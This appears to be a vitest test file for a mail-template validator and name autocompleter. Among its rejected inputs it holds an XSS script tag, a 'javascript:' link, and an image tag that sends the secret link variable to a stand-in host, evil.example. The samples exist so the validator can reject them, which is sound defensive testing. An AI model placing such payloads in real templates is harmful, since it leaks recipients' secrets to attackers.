import { describe, expect, it } from 'vitest';
import { findTemplateError, findTypedName, insertName } from './mail-template.ts';

const variables = ['first_name', 'link', 'message'];
const errorOf = (text: string) =>
  findTemplateError('body', text, { variables, siteUrl: 'https://alpaca.example' });

describe('a template', () => {
  it.each([
    '{{ first_name }} {{link}} <p>{{- message -}}</p>',
    '{% if message and first_name != "x" %}{{ message }}{% else %}-{% endif %}',
    `{{ first_name | default: 'you' | truncate: 20, "…" }}`,
    '<p class="button">first name, salary</p>',
  ])('may contain %s', (text) => {
    expect(errorOf(text)).toBeUndefined();
  });

  it.each([
    ['', { code: 'empty' }],
    ['x'.repeat(20_001), { code: 'too_long' }],
    ['{{1}}'.repeat(601), { code: 'too_long' }],
    [`{% if ${'1=='.repeat(1_000)}1 %}x{% endif %}`, { code: 'too_long' }],
    ['{{ salary }} {{ link }}', { code: 'unknown_variable', names: ['salary'] }],
    ['{% if salary %}x{% endif %}', { code: 'unknown_variable', names: ['salary'] }],
    ['{% for a in b %}x{% endfor %}', { code: 'unknown_tag' }],
    ['Hi {{ first_name', { code: 'unclosed' }],
    ['{% if message %}x', { code: 'unclosed' }],
    ['<script>alert(1)</script>', { code: 'unsafe_html' }],
    ['<a href="javascript:x">x</a>', { code: 'unsafe_html' }],
    ['<img src="https://evil.example/?{{ link }}">', { code: 'secret_misplaced' }],
  ])('must not contain %.40s', (text, error) => {
    expect(errorOf(text)).toEqual(error);
  });
});

describe('a template that exists for its link or code', () => {
  const options = { variables: ['link', 'code'], siteUrl: 'https://alpaca.example' };
  const errorOfBody = (text: string, essential: string[]) =>
    findTemplateError('body', text, { ...options, essential });

  it.each(['{{ link }}', '<a href="{{link}}">x</a>', '{{- code -}}'])('may contain %s', (text) => {
    expect(errorOfBody(text, ['link', 'code'])).toBeUndefined();
  });

  it.each([['Hi'], ['{% if link %}Hi{% endif %}'], ['link, code'], ['{{ code }}', ['link']]])(
    'must not be only %s',
    (text, essential = ['link', 'code']) => {
      const error = { code: 'essential_missing', names: [essential.join(' / ')] };
      expect(errorOfBody(text, essential)).toEqual(error);
    },
  );

  it('may have any subject', () => {
    expect(findTemplateError('subject', 'Hi', { ...options, essential: ['link'] })).toBeUndefined();
  });
});

describe('a name', () => {
  it('is suggested only after two braces', () => {
    expect(findTypedName('Hi {{ fir', 9)).toEqual({ start: 3, typed: 'fir' });
    expect(findTypedName('Hi {{', 5)).toEqual({ start: 3, typed: '' });
    expect(findTypedName('Hi {{ link }} you', 17)).toBeUndefined();
    expect(findTypedName('Hi { fir', 8)).toBeUndefined();
  });

  it('replaces the typed text and existing closing braces', () => {
    const typed = { start: 3, caret: 9, name: 'first_name' };
    const text = 'Hi {{ first_name }}';
    expect(insertName('Hi {{ fir, hello', typed)).toEqual({ text: `${text}, hello`, caret: 19 });
    expect(insertName('Hi {{ fir }}!', typed)).toEqual({ text: `${text}!`, caret: 19 });
  });
});
